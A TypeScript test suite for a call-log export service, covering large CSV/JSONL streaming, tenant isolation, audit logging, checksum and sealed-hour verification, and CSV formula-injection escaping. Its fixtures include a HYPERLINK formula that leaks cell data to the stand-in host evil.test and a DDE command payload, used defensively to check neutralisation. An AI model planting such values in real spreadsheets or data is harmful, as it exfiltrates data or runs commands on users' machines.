import fs from "node:fs";
import readline from "node:readline";
import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ownDatabase } from "../../test/own-db.ts";
import { insertCalls, makeTenantIn } from "../../audit/test/fixtures.ts";
import type { Actor } from "../../auth/actor.ts";
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { parse } from "csv-parse/sync";
import { sealAll } from "../../audit/seal/seal.ts";
import { exportFile, getExport, runExport, startExport } from "./jobs.ts";

let own: Awaited<ReturnType<typeof ownDatabase>>;
let big: string;
let small: string;
let auditor: Actor;
let smallTenant: Actor;
const MILLION = 1_000_000;
const day = new Date(Date.UTC(2026, 10, 3));
const formulaHour = new Date(Date.UTC(2026, 10, 5, 10));
const FORMULA = { requestId: '=HYPERLINK("http://evil.test/?"&A1,"open")', replica: "+cmd|' /C calc'!A0", region: "-2+3", errorClass: "@SUM(1+1)", userHash: "'=already quoted" };

async function actorIn(role: Actor["role"], tenantId: string | null = null): Promise<Actor> {
  const u = await own.db.user.create({ data: { email: `${role}-${Math.random().toString(36).slice(2)}@t.local`, name: role, passwordHash: "x", membership: { create: { role, tenantId } } } });
  return { userId: u.id, email: u.email, name: u.name, role, tenantId };
}

beforeAll(async () => {
  own = await ownDatabase("kule_export");
  big = await makeTenantIn(own.pool);
  small = await makeTenantIn(own.pool);
  // A million rows over one day, written by the server itself (the fastest way in).
  await own.pool.query(
    `INSERT INTO "CallLog" ("requestId", "tenantId", "apiKeyId", "endpointId", "endpointVersionId", replica, region, "clientIp", "startedAt", "endedAt", "ttftMs", status, "errorClass", "promptTokens", "completionTokens")
     SELECT 'req-' || g, $1, 'key-' || (g % 40), 'ep-' || (g % 7), 'ev-' || (g % 14), 'rep-' || (g % 30), 'tr-ist', '10.1.' || (g % 250) || '.' || (g % 199),
            $2::timestamptz AT TIME ZONE 'UTC' + g * interval '86 ms', $2::timestamptz AT TIME ZONE 'UTC' + g * interval '86 ms' + interval '420 ms', 35, CASE WHEN g % 97 = 0 THEN 503 ELSE 200 END,
            CASE WHEN g % 97 = 0 THEN 'upstream_error, "quoted"' END, 120, 240
       FROM generate_series(1, ${MILLION}) g`,
    [big, day],
  );
  await insertCalls(own.pool, Array.from({ length: 10 }, (_, i) => ({ tenantId: small, startedAt: new Date(day.getTime() + i * 1000) })));
  // Text a client or an operator chose, written as a spreadsheet would run it, in an hour of its own.
  const at = `$6::timestamptz AT TIME ZONE 'UTC'`;
  await own.pool.query(
    `INSERT INTO "CallLog" ("requestId", "tenantId", "apiKeyId", "endpointId", "endpointVersionId", replica, region, "clientIp", "startedAt", "endedAt", "ttftMs", status, "errorClass", "promptTokens", "completionTokens", "userHash")
     VALUES ($1, $2, 'key-1', 'ep-1', 'ev-1', $3, $4, '10.0.0.1', ${at}, ${at} + interval '1 s', 30, 500, $5, 7, 9, $7),
            ('plain-id', $2, 'key-1', 'ep-1', 'ev-1', 'rep-1', 'tr-ist', '10.0.0.1', ${at} + interval '2 s', ${at} + interval '3 s', 30, 200, NULL, 7, 9, NULL)`,
    [FORMULA.requestId, await makeTenantIn(own.pool), FORMULA.replica, FORMULA.region, FORMULA.errorClass, formulaHour, FORMULA.userHash],
  );
  auditor = await actorIn("auditor");
  smallTenant = await actorIn("tenant", small);
}, 240_000);
afterAll(() => own?.close());

async function fileFacts(file: string) {
  const hash = createHash("sha256");
  for await (const chunk of fs.createReadStream(file)) hash.update(chunk as Buffer);
  let lines = 0;
  let first = "";
  const head = Buffer.alloc(65536);
  const fd = fs.openSync(file, "r");
  const n = fs.readSync(fd, head, 0, head.length, 0);
  fs.closeSync(fd);
  const sample = head.subarray(0, n).toString("latin1");
  const crlf = sample.split("\n").length - 1 === sample.split("\r\n").length - 1 && sample.includes("\r\n");
  const rl = readline.createInterface({ input: fs.createReadStream(file), crlfDelay: Infinity });
  for await (const line of rl) {
    if (!lines) first = line;
    lines++;
  }
  return { sha256: hash.digest("hex"), lines, first, crlf };
}

describe("call-log exports", () => {
  it("streams a million rows to CSV with flat memory; rows and checksum match the manifest", async () => {
    const job = await startExport({ db: own.db, actor: auditor, ip: "127.0.0.1" }, { format: "csv", filter: { tenantId: big } }, { run: false });
    global.gc?.();
    const base = process.memoryUsage().rss;
    let peak = base;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    const t0 = performance.now();
    await runExport(own.db, job.id);
    clearInterval(sampler);
    const seconds = (performance.now() - t0) / 1000;
    const done = await getExport({ db: own.db, actor: auditor }, { id: job.id });
    expect(done.state).toBe("done");
    expect(done.rowsDone).toBe(MILLION);
    const file = exportFile(job.id, "csv", "data");
    const facts = await fileFacts(file);
    const manifest = JSON.parse(fs.readFileSync(exportFile(job.id, "csv", "manifest"), "utf8"));
    expect(facts.lines).toBe(MILLION + 1); // the header, then one line per row
    expect(manifest).toMatchObject({ rows: MILLION, sha256: facts.sha256, bytes: fs.statSync(file).size, requestedBy: { email: auditor.email } });
    expect(done.sha256).toBe(facts.sha256);
    expect(facts.first.startsWith("\uFEFFrequestId,tenantId,")).toBe(true);
    expect(facts.crlf).toBe(true);
    // The file is ~130 MB; the process grows by far less than that while writing it.
    expect(fs.statSync(file).size).toBeGreaterThan(120e6);
    expect((peak - base) / 1e6).toBeLessThan(64);
    console.log(`1M-row export: ${(MILLION / seconds).toFixed(0)} rows/s, RSS +${((peak - base) / 1e6).toFixed(1)} MB`);
    fs.rmSync(file);
  }, 240_000);

  it("quotes CSV fields by RFC 4180 and writes JSON lines that parse", async () => {
    const filter = { tenantId: big, status: 503, from: day, to: new Date(day.getTime() + 10_000) };
    const csv = await startExport({ db: own.db, actor: auditor, ip: null }, { format: "csv", filter }, { run: false });
    await runExport(own.db, csv.id);
    const text = fs.readFileSync(exportFile(csv.id, "csv", "data"), "utf8");
    expect(text).toContain(`,"upstream_error, ""quoted""",`);
    const jl = await startExport({ db: own.db, actor: auditor, ip: null }, { format: "jsonl", filter }, { run: false });
    await runExport(own.db, jl.id);
    const lines = fs.readFileSync(exportFile(jl.id, "jsonl", "data"), "utf8").trim().split("\n").map((l) => JSON.parse(l));
    expect(lines.length).toBe((await getExport({ db: own.db, actor: auditor }, { id: jl.id })).rowsDone);
    expect(lines[0]).toMatchObject({ tenantId: big, status: 503, errorClass: 'upstream_error, "quoted"', promptTokens: 120 });
    expect(lines[0].startedAt).toMatch(/^2026-11-03T00:00:\d\d\.\d{3}Z$/);
  });

  it("gives a tenant only its own rows, whatever tenant its filter names, and hides others' exports", async () => {
    const mine = await startExport({ db: own.db, actor: smallTenant, ip: null }, { format: "jsonl", filter: { tenantId: big } }, { run: false });
    await runExport(own.db, mine.id);
    const rows = fs.readFileSync(exportFile(mine.id, "jsonl", "data"), "utf8").trim().split("\n").map((l) => JSON.parse(l));
    expect(rows).toHaveLength(10);
    expect(new Set(rows.map((r) => r.tenantId))).toEqual(new Set([small]));
    const staffJob = await startExport({ db: own.db, actor: auditor, ip: null }, { format: "csv", filter: { tenantId: small } }, { run: false });
    await expect(getExport({ db: own.db, actor: smallTenant }, { id: staffJob.id })).rejects.toThrow("Export not found");
  });

  it("writes rows in the seal's order, time then request id, whatever order they were stored in", async () => {
    const late = await makeTenantIn(own.pool);
    const at = (s: number) => new Date(day.getTime() + 5_000 + s * 1000);
    // Stored out of time order, and three calls that started in the same millisecond.
    await insertCalls(own.pool, [4, 0, 3, 1, 2, 1, 1].map((s) => ({ tenantId: late, startedAt: at(s) })));
    const job = await startExport({ db: own.db, actor: auditor, ip: null }, { format: "jsonl", filter: { tenantId: late } }, { run: false });
    await runExport(own.db, job.id);
    const rows = fs.readFileSync(exportFile(job.id, "jsonl", "data"), "utf8").trim().split("\n").map((l) => JSON.parse(l) as { startedAt: string; requestId: string });
    const sorted = [...rows].sort((a, b) => a.startedAt.localeCompare(b.startedAt) || Buffer.compare(Buffer.from(a.requestId), Buffer.from(b.requestId)));
    expect(rows.map((r) => r.requestId)).toEqual(sorted.map((r) => r.requestId));
    expect(rows.map((r) => r.startedAt)).toEqual([0, 1, 1, 1, 2, 3, 4].map((s) => at(s).toISOString()));
  });

  it("records every export as an audit event naming who asked and the filter", async () => {
    const events = await own.db.auditEvent.findMany({ where: { action: "calllog.export" } });
    expect(events.length).toBeGreaterThanOrEqual(4);
    expect(events.some((e) => e.actorEmail === smallTenant.email && (e.after as { tenantScope: string }).tenantScope === small)).toBe(true);
  });

  it("lets an outsider re-check a complete export (a Turkish CSV's header too): checksum, rows, each sealed hour rebuilt and the chain", async () => {
    await sealAll(own.pool, { graceMinutes: 60 });
    const filter = { from: day, to: new Date(day.getTime() + 3 * 3_600_000) };
    for (const format of ["csv", "jsonl"] as const) {
      // The CSV is asked for in Turkish: its header is for people, the manifest names the columns.
      const job = await startExport({ db: own.db, actor: auditor, ip: null }, { format, filter, locale: "tr" }, { run: false });
      await runExport(own.db, job.id);
      const file = exportFile(job.id, format, "data");
      if (format === "csv") expect(fs.readFileSync(file, "utf8").slice(0, 80)).toMatch(/^\uFEFFİstek kimliği,Kiracı kimliği,API anahtarı kimliği,/);
      else expect(fs.readFileSync(file, "utf8")).toContain('"requestId" : "req-');
      const manifestPath = exportFile(job.id, format, "manifest");
      const manifest = JSON.parse(fs.readFileSync(manifestPath, "utf8"));
      expect(manifest.seal).toMatchObject({ complete: true });
      expect(manifest.seal.segments).toHaveLength(3);
      const run = promisify(execFile);
      const ok = await run("node", ["scripts/verify-export.mjs", file, manifestPath]);
      expect(ok.stdout).toContain("3 sealed hours rebuilt from the rows");
      // One changed token count: the checksum fails; with the checksum "fixed" too, the hour fails.
      const text = fs.readFileSync(file, "utf8");
      const forged = format === "csv" ? text.replace(",120,240,", ",120,241,") : text.replace('"completionTokens" : 240', '"completionTokens" : 241');
      expect(forged).not.toBe(text);
      fs.writeFileSync(file, forged);
      await expect(run("node", ["scripts/verify-export.mjs", file, manifestPath])).rejects.toMatchObject({ stderr: expect.stringContaining("SHA-256") });
      const refit = { ...manifest, sha256: createHash("sha256").update(forged).digest("hex"), bytes: Buffer.byteLength(forged) };
      fs.writeFileSync(manifestPath, JSON.stringify(refit));
      await expect(run("node", ["scripts/verify-export.mjs", file, manifestPath])).rejects.toMatchObject({ stderr: expect.stringContaining(`segment ${day.toISOString()}`) });
      fs.rmSync(file);
    }
  }, 120_000);

  it("writes text starting with = + - @ as text a spreadsheet will not run, and the verifier still rebuilds the sealed hour", async () => {
    await sealAll(own.pool, { graceMinutes: 60 });
    const filter = { from: formulaHour, to: new Date(formulaHour.getTime() + 3_600_000) };
    const run = promisify(execFile);
    const files: Record<string, string> = {};
    for (const format of ["csv", "jsonl"] as const) {
      const job = await startExport({ db: own.db, actor: auditor, ip: null }, { format, filter }, { run: false });
      await runExport(own.db, job.id);
      files[format] = exportFile(job.id, format, "data");
      const ok = await run("node", ["scripts/verify-export.mjs", files[format], exportFile(job.id, format, "manifest")]);
      expect(ok.stdout).toContain("1 sealed hours rebuilt from the rows");
    }
    const [head, evil, plain] = fs.readFileSync(files.csv!, "utf8").split("\r\n").map((l) => parse(l.replace(/^\uFEFF/, ""))[0] as string[]);
    const cell = (row: string[], col: string) => row[head!.indexOf(col)];
    expect(["requestId", "replica", "region", "errorClass", "userHash"].map((c) => cell(evil!, c))).toEqual([`'${FORMULA.requestId}`, `'${FORMULA.replica}`, `'${FORMULA.region}`, `'${FORMULA.errorClass}`, `'${FORMULA.userHash}`]);
    // Ordinary text and the numbers are written as they are.
    expect(["requestId", "region", "status", "promptTokens", "ttftMs"].map((c) => cell(plain!, c))).toEqual(["plain-id", "tr-ist", "200", "7", "30"]);
    // JSON lines are data, not a spreadsheet: the values as stored.
    const lines = fs.readFileSync(files.jsonl!, "utf8").trim().split("\n").map((l) => JSON.parse(l));
    expect(lines[0]).toMatchObject(FORMULA);
  }, 60_000);
});
